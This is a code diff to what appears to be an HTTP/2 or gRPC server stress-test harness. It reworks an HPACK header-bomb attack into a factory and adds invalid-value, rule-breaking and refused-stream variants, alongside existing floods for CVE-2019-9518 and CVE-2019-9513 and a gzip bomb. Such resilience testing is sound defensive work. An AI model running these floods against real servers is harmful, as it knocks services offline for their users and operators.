@@ -70,11 +70,11 @@ class Pace(NamedTuple):
     patience: float = 10
 
 
-def flooding(make, before=b"", deaf=False):
+def flooding(make, before=b"", deaf=False, acknowledges=True):
     """An attack that sends one kind of frame, after `before`."""
 
     def attack(port, pace):
-        with Connection(port, deaf=deaf) as connection:
+        with Connection(port, deaf=deaf, acknowledges=acknowledges) as connection:
             connection.send(before)
             flood(connection, make, pace.frames, pace.batch, pace.pause)
             return connection.end(pace.patience)
@@ -141,11 +141,15 @@ def data_after_end(index):
 # Frames that cost the server more than us.
 
 
-def header_bomb(index):
+def header_bomb(first_stream=1, before=b"", text="x"):
     """12,000 references of a byte each to an entry of 4 KB."""
-    start = request(TEST_SERVICE + "EmptyCall") + (field("x", "x" * 4000, indexed=True) if index == 0 else b"")
-    # The dynamic table begins at 62; it lives as long as the connection, so one request fills it.
-    return frame(HEADERS, END_HEADERS | END_STREAM, odd(index), start + b"\xbe" * 12_000)
+    def make(index):
+        start = before + request(TEST_SERVICE + "EmptyCall")
+        # The dynamic table begins at 62; it lives as long as the connection, so one request fills it.
+        start += field("x", text * 4000, indexed=True) if index == 0 else b""
+        return frame(HEADERS, END_HEADERS | END_STREAM, first_stream + 2 * index, start + b"\xbe" * 12_000)
+
+    return make
 
 
 def expanding(port, pace):
@@ -294,7 +298,18 @@ ATTACKS = {
         "empty DATA frames (CVE-2019-9518)",
         flooding(lambda _: frame(DATA, 0, 1), before=call(1, HANG)), 10_000, batch=100),
     "priority": Attack("PRIORITY churn (CVE-2019-9513)", churning, 20_000, ANY, batch=100),
-    "header-bomb": Attack("HPACK bomb, 12,000 references to 4 KB", flooding(header_bomb), 50, handlers=0, most=50),
+    "header-bomb": Attack("HPACK bomb, 12,000 references to 4 KB", flooding(header_bomb()), 1, handlers=0, most=50),
+    # Not of the table: what is refused or left out is unpacked too.
+    "header-bomb-invalid": Attack(
+        "HPACK bomb of an invalid value", flooding(header_bomb(text="\x01")), 1, handlers=0, most=50),
+    "header-bomb-broken": Attack(
+        "HPACK bomb in a list that breaks a rule", flooding(header_bomb(before=field("A", "b"))), 4, handlers=0,
+        most=50),
+    "header-bomb-refused": Attack(
+        "HPACK bomb on refused streams",
+        # Who has acknowledged SETTINGS is told PROTOCOL_ERROR at the first.
+        flooding(header_bomb(201), b"".join(call(odd(index), HANG) for index in range(100)), acknowledges=False), 4,
+        handlers=100, most=50),
     "gzip-bomb": Attack("messages of 64 MB in 64 KB of gzip", expanding, 20, ANY, handlers=20, most=20),
     "unknown-frames": Attack(
         "frames of an unknown type", flooding(lambda _: frame(0xEE, payload=bytes(8))), 10_000, batch=100),
